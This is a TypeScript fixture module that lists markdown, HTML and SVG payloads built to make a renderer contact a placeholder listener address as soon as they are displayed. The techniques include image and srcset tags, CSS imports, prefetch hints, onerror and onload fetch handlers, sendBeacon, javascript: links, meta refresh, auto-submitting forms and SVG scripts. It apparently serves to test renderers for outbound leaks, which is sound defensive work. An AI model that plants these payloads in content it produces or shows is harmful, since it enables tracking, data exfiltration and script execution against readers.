// Text and files that try to reach out as soon as they are shown. `TRAP` stands for the listener's address.

export interface Payload {
  readonly name: string
  readonly kind: 'markdown' | 'html' | 'svg'
  readonly text: string
}

const page = (head: string, body = '') =>
  `<!doctype html><html><head><title>Report</title>${head}</head><body><h1>Report</h1>${body}</body></html>`
const drawing = (inside: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 80 40">${inside}<rect width="80" height="40" fill="#ccc"/></svg>`

const MARKDOWN: readonly (readonly [string, string])[] = [
  ['an image', '![chart](TRAP/m1.png)'],
  ['a reference-style image', '![chart][pic]\n\n[pic]: TRAP/m2.png "chart"'],
  ['a link whose text lies', '[https://bank.example/login](TRAP/m3)'],
  ['an autolink', '<TRAP/m4>'],
  ['a bare address', 'See TRAP/m5 for more.'],
  ['a raw image', '<img src="TRAP/m6.png" onerror="fetch(\'TRAP/m6\')">'],
  ['a raw picture with srcset', '<picture><source srcset="TRAP/m7.png 1x, TRAP/m7b.png 2x"><img srcset="TRAP/m7c.png"></picture>'],
  ['a raw iframe', '<iframe src="TRAP/m8.html" srcdoc="<img src=TRAP/m8.png>"></iframe>'],
  ['a raw style', '<style>@import url(TRAP/m9.css); body { background: url(TRAP/m9.png) }</style>'],
  ['a raw meta refresh', '<meta http-equiv="refresh" content="0;url=TRAP/m10">'],
  ['hints to the browser', '<link rel="preconnect" href="TRAP/"><link rel="dns-prefetch" href="TRAP/"><link rel="prefetch" href="TRAP/m11">'],
  ['an image with a script address', '![x](javascript:fetch("TRAP/m12")) [y](javascript:fetch("TRAP/m12"))'],
  ['an image in a table and in a link', '| a | b |\n|---|---|\n| ![x](TRAP/m13.png) | [![y](TRAP/m13b.png)](TRAP/m13c) |'],
  ['mathematics with a picture', '$$\\includegraphics{TRAP/m14.png} \\href{TRAP/m14}{x}$$'],
  ['a diagram with an address', '```mermaid\ngraph TD\nA[<img src="TRAP/m15.png">] --> B\nclick A href "TRAP/m15"\n```'],
]

const HTML: readonly (readonly [string, string])[] = [
  ['images, srcset and a poster', page('', '<img src="TRAP/h1.png" srcset="TRAP/h1b.png 2x"><video poster="TRAP/h1c.png" src="TRAP/h1.mp4" autoplay></video>')],
  ['a meta refresh and a base', page('<base href="TRAP/"><meta http-equiv="refresh" content="0; url=TRAP/h2">', '<img src="h2.png">')],
  ['styles', page('<link rel="stylesheet" href="TRAP/h3.css"><style>@import "TRAP/h3b.css"; @font-face { font-family: x; src: url(TRAP/h3.woff2) } body { font-family: x; background: url(TRAP/h3.png) }</style>', '<p style="background-image: url(TRAP/h3c.png)">text</p>')],
  ['hints to the browser', page('<link rel="preconnect" href="TRAP/"><link rel="dns-prefetch" href="TRAP/"><link rel="preload" as="image" href="TRAP/h4.png"><link rel="prefetch" href="TRAP/h4"><link rel="modulepreload" href="TRAP/h4.js"><link rel="icon" href="TRAP/h4.ico"><link rel="manifest" href="TRAP/h4.json">')],
  ['scripts', page('<script src="TRAP/h5.js"></script>', '<script>fetch("TRAP/h5"); new Image().src = "TRAP/h5.png"; navigator.sendBeacon("TRAP/h5b"); location = "TRAP/h5c"</script><body onload="fetch(\'TRAP/h5d\')">')],
  ['frames, objects and a form', page('', '<iframe src="TRAP/h6.html"></iframe><iframe srcdoc="<img src=TRAP/h6.png>"></iframe><object data="TRAP/h6.swf"></object><embed src="TRAP/h6.svg"><form id="f" action="TRAP/h6b" method="post"><input name="a" autofocus onfocus="f.submit()"></form>')],
]

const SVG: readonly (readonly [string, string])[] = [
  ['a script', drawing('<script>fetch("TRAP/s1"); new Image().src = "TRAP/s1.png"</script><script xlink:href="TRAP/s1.js"/>')],
  ['images and uses', drawing('<image href="TRAP/s2.png" width="9" height="9"/><image xlink:href="TRAP/s2b.png" width="9" height="9"/><use href="TRAP/s2.svg#a"/><feImage href="TRAP/s2c.png"/>')],
  ['a page inside', drawing('<foreignObject width="80" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="TRAP/s3.png"/><iframe src="TRAP/s3.html"></iframe></body></foreignObject>')],
  ['styles and an event', `<?xml-stylesheet href="TRAP/s4.css"?>${drawing('<style>@import url(TRAP/s4b.css); rect { fill: url(TRAP/s4.svg#a) }</style><animate attributeName="href" values="TRAP/s4c" onbegin="fetch(\'TRAP/s4d\')"/>')}`],
]

const of = (kind: Payload['kind'], list: readonly (readonly [string, string])[]): Payload[] =>
  list.map(([name, text]) => ({ name, kind, text }))

export const PAYLOADS: readonly Payload[] = [...of('markdown', MARKDOWN), ...of('html', HTML), ...of('svg', SVG)]

/** The payload with the listener's address in it. */
export function armed(payload: Payload, trap: string): string {
  return payload.text.replaceAll('TRAP', trap)
}
